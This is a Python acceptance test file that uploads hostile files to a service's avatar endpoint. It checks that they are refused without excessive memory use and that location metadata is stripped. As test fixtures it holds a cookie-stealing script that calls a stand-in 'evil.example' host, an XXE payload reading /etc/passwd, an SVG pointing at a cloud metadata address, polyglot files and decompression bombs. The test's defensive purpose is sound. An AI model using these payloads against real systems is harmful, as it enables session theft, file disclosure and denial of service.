"""Files that are made to be taken for pictures, sent to a real hub as anybody can send them."""

import gzip
import io
import struct
import zlib
from collections.abc import Iterator

import psutil
import pytest
from PIL import Image

from sandbox.visitor import Json, Visitor
from tests.acceptance.scene import Scene
from tests.unit.hub.test_pictures import PLACE, animated, exif, picture, png_bomb, webp_bomb

SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script><image href='http://169.254.169.254/'/></svg>"
DOCTYPE = b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><svg>&e;</svg>"
MEMORY_MAX = 300 * 1024 * 1024
"""What a bomb would take is gigabytes; what decoding a picture of the largest allowed size takes is not."""


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def hostile() -> Iterator[tuple[str, bytes, str]]:
    """What it is, the bytes, and what it is sent as."""
    png, jpeg, webp = picture("PNG"), picture("JPEG"), picture("WEBP")
    yield "svg", SVG, "image/svg+xml"
    yield "svg as a png", SVG, "image/png"
    yield "entities", DOCTYPE, "image/svg+xml"
    yield "html", b"<!doctype html><body>" + SCRIPT, "image/png"
    yield "gif", b"GIF89a" + b"\1\0\1\0" + b"\0" * 40, "image/gif"
    yield "gif that is a script", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)", "image/png"
    yield "png as a jpeg", png, "image/jpeg"
    yield "jpeg as a webp", jpeg, "image/webp"
    yield "moving png", animated("PNG"), "image/png"
    yield "moving webp", animated("WEBP"), "image/webp"
    yield "png and zip", png + b"PK\x03\x04" + b"\0" * 60, "image/png"
    yield "jpeg and page", jpeg + SCRIPT, "image/jpeg"
    yield "webp and program", webp + b"\x7fELF" + b"\0" * 60, "image/webp"
    yield "page before a png", SCRIPT + png, "image/png"
    yield "half a png", png[: len(png) // 2], "image/png"
    yield "half a jpeg", jpeg[: len(jpeg) // 2], "image/jpeg"
    yield "no end", png[:-12], "image/png"
    yield "wide bomb", png_bomb(50_000, 50_000), "image/png"
    yield "long bomb", png_bomb(100_000, 1), "image/png"
    yield "webp bomb", webp_bomb(), "image/webp"
    yield "packed bomb", gzip.compress(b"\0" * 50_000_000), "image/png"
    yield "no sides", png_bomb(0, 0), "image/png"
    head = struct.pack(">IIBBBBB", 0xFFFFFFFF, 0xFFFFFFFF, 16, 6, 0, 0, 1)
    signature = b"\x89PNG\r\n\x1a\n"
    yield "impossible sides", signature + chunk(b"IHDR", head) + chunk(b"IEND", b""), "image/png"
    # A text that unpacks to gigabytes, in a picture of one point.
    text = chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"\0" * 100_000_000, 9))
    one = picture("PNG", (1, 1))
    yield "unpacking text", one[:33] + text + one[33:], "image/png"
    colours = chunk(b"iCCP", b"x\0\0" + zlib.compress(b"\0" * 100_000_000, 9))
    yield "unpacking colours", one[:33] + colours + one[33:], "image/png"
    yield "empty", b"", "image/png"
    yield "endless", b"\xff\xd8\xff" + b"\xff" * 1_000_000, "image/jpeg"
    yield "too much", b"\xff\xd8\xff" + b"\0" * 6_000_000, "image/jpeg"


async def put(who: Visitor, scene: Scene, content: bytes, kind: str) -> tuple[int, Json]:
    headers = {"Authorization": f"Bearer {who.token}", "Content-Type": kind}
    url = f"{who.hub}/v1/me/avatar"
    async with scene.http.put(url, data=io.BytesIO(content), headers=headers) as response:
        return response.status, await response.json()


async def shown(who: Visitor, scene: Scene, size: int) -> tuple[int, bytes, dict[str, str]]:
    headers = {"Authorization": f"Bearer {who.token}"}
    url = f"{who.hub}/v1/people/{who.id}/avatar"
    async with scene.http.get(url, params={"size": str(size)}, headers=headers) as response:
        return response.status, await response.read(), dict(response.headers)


async def test_what_only_looks_like_a_picture_is_refused_and_takes_nothing(scene: Scene) -> None:
    web = psutil.Process(next(iter(scene.stack.webs.values())).pid)
    guest, before = await scene.guest(0), web.memory_info().rss
    wrong: list[tuple[object, ...]] = []
    tried = 0
    for what, content, kind in hostile():
        tried += 1
        status, answer = await put(guest, scene, content, kind)
        drawn = status == 200 and what in HARMLESS
        if not drawn and (
            status not in (400, 413) or answer["error"]["code"] not in ("bad_request", "too_large")
        ):
            wrong.append((what, status, answer))
        if web.memory_info().rss > before + MEMORY_MAX:
            wrong.append((what, "took", web.memory_info().rss - before))
    assert wrong == []
    assert tried > 25
    assert (await guest.get("/v1/me"))["id"] == guest.id


HARMLESS = {"unpacking text", "unpacking colours"}
"""Pictures whose other contents nobody unpacks: they may be drawn, without them."""


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
async def test_where_it_was_taken_reaches_nobody(scene: Scene, kind: str) -> None:
    guest, other = await scene.guest(0), await scene.guest(1)
    given = picture(kind, exif=exif())
    assert PLACE in given
    status, _ = await put(guest, scene, given, f"image/{kind.lower()}")
    assert status == 200
    for size in (128, 512):
        asked = Visitor(other.hub, {"id": guest.id, "access_token": other.token})
        scene.visitors.append(asked)
        status, content, headers = await shown(asked, scene, size)
        assert (status, headers["Content-Type"], headers["X-Content-Type-Options"]) == (
            200,
            "image/webp",
            "nosniff",
        )
        assert PLACE not in content
        assert b"Exif" not in content
        with Image.open(io.BytesIO(content)) as seen:
            assert not seen.getexif()
            assert seen.size == (size, size)


async def test_nothing_of_what_was_sent_lies_in_the_record(scene: Scene) -> None:
    guest = await scene.guest(0)
    await put(guest, scene, picture("JPEG", exif=exif(), comment=SCRIPT), "image/jpeg")
    rows = await scene.sql(
        "select sealed from blob_chunks join blobs on blobs.id = blob_id where subject_id = $1", guest.id
    )
    assert rows
    for row in rows:
        assert PLACE not in row["sealed"]
        assert SCRIPT not in row["sealed"]
        assert not row["sealed"].startswith(b"RIFF")
